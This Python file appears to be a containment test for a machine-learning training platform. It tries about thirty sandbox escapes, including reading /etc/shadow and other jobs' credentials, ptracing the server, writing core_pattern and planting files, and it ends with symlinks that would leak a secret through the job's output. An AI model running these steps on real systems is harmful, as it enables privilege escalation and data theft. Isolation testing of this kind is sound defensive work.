"""A training script that tries to get out. Its hyperparameter `targets` says at what; its model says how each try ended."""

import ctypes
import json
import os
import signal
import socket
import sys

targets = json.loads(sys.argv[sys.argv.index("--targets") + 1])
libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "done"


def connect(address):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(5)
        connection.connect(address)
        return "connected"


def read(path):
    with open(path, "rb") as file:
        return f"read {len(file.read(100))} bytes"


def write(path):
    with open(path, "wb") as file:
        return f"wrote {file.write(b'x')} byte"


def plant(path):
    with open(path, "x"):
        return "planted"


def memory_of(pid):
    with open(f"/proc/{pid}/mem", "rb") as memory, open(f"/proc/{pid}/maps") as maps:
        memory.seek(int(maps.readline().split("-")[0], 16))
        return f"read {len(memory.read(10))} bytes"


def trace(pid):
    result = call("ptrace", 16, pid, 0, 0)
    call("ptrace", 17, pid, 0, 0)
    return result


def signal_to(pid):
    os.kill(pid, 0)
    return "could be killed"


def user_namespace():
    call("unshare", 0x10000000)
    return "is root of its own"


def become_root():
    os.setuid(0)
    return "root" if os.geteuid() == 0 and read("/proc/1/mem") else "no"


def other_processes():
    """Any process that this script did not start; init, which keeps it, has rights no other than the script's."""
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    strangers = [pid for pid in seen if pid not in (1, os.getpid())]
    if not strangers:
        raise OSError("none to be seen")
    return f"sees {strangers}"


def find(name):
    for directory, _, files in os.walk("/"):
        if name in files:
            return os.path.join(directory, name)
    raise FileNotFoundError(name)


def disks():
    for name in ("mem", "vda", "sda", "nvme0n1"):
        if os.path.exists(f"/dev/{name}"):
            return read(f"/dev/{name}")
    raise FileNotFoundError("no disk")


def homes():
    for user in os.listdir("/home"):
        return os.listdir(f"/home/{user}")
    raise FileNotFoundError("no home directory")


def inherited_files():
    held = {int(name): os.readlink(f"/proc/self/fd/{name}") for name in os.listdir("/proc/self/fd")[:-1] if int(name) > 2}
    outside = {
        number: path for number, path in held.items() if path.startswith("/") and not path.startswith(("/opt/ml", "/proc"))
    }
    if not outside:
        raise OSError("none")
    return f"holds {outside}"


TRIES = {
    "read the data directory": lambda: os.listdir(f"{targets['data']}/jobs"),
    "read the server's token": lambda: read(f"{targets['data']}/server.json"),
    "read the credentials of jobs": lambda: read(find("spec.json")),
    "read another job": lambda: os.listdir(targets["other_job"]),
    "read another user's file": lambda: read(targets["secret"]),
    "read through the init process": lambda: read(f"/proc/1/root{targets['secret']}"),
    "read through dots": lambda: read(f"/opt/ml/../../../../../..{targets['secret']}"),
    "read the password hashes": lambda: read("/etc/shadow"),
    "read the disk": disks,
    "list home directories": homes,
    "write the system": lambda: plant("/usr/lib/planted"),
    "write Clary's code": lambda: plant(os.path.join(targets["code"], "planted.py")),
    "write the packages": lambda: plant(os.path.join(os.path.dirname(os.path.dirname(json.__file__)), "planted.py")),
    "write the kernel's settings": lambda: write("/proc/sys/kernel/core_pattern"),
    "write to the environments of all jobs": lambda: plant(f"{targets['data']}/environments/planted"),
    "read the server's memory": lambda: memory_of(targets["server"]),
    "read the server's environment": lambda: read(f"/proc/{targets['server']}/environ"),
    "trace the server": lambda: trace(targets["server"]),
    "trace another job": lambda: trace(targets["other_program"]),
    "signal the server": lambda: signal_to(targets["server"]),
    "signal another job": lambda: signal_to(targets["other_program"]),
    "signal its supervisor": lambda: signal_to(os.getppid()) if os.getppid() > 1 else signal_to(0x3FFFFF),
    "see other processes": other_processes,
    "keep an open file": inherited_files,
    "connect to the workers' socket": lambda: connect(targets["socket"]),
    "connect to an abstract socket": lambda: connect("\0" + targets["abstract"]),
    "become root in a namespace": user_namespace,
    "mount something": lambda: call("mount", b"none", b"/opt/ml/code", b"tmpfs", 0, None),
    "become root": become_root,
    "see the machine's shared memory": lambda: read(f"/dev/shm/{targets['shared']}"),
}
report = {}
for name, attempt in TRIES.items():
    try:
        report[name] = f"ESCAPED: {attempt()}"
    except OSError as error:
        report[name] = f"kept in: {type(error).__name__}: {error}"
with open(os.path.join(os.environ["SM_MODEL_DIR"], "report.json"), "w") as file:
    json.dump(report, file)
signal.alarm(0)

# what the supervisor will look at, it must not be led by
os.makedirs("/opt/ml/output/data", exist_ok=True)
os.symlink(targets["secret"], "/opt/ml/output/data/secret")
os.rename("/opt/ml/checkpoints", "/opt/ml/was-checkpoints")
os.symlink(os.path.dirname(targets["secret"]), "/opt/ml/checkpoints")
os.symlink(targets["secret"], "/opt/ml/.model.tar.gz")
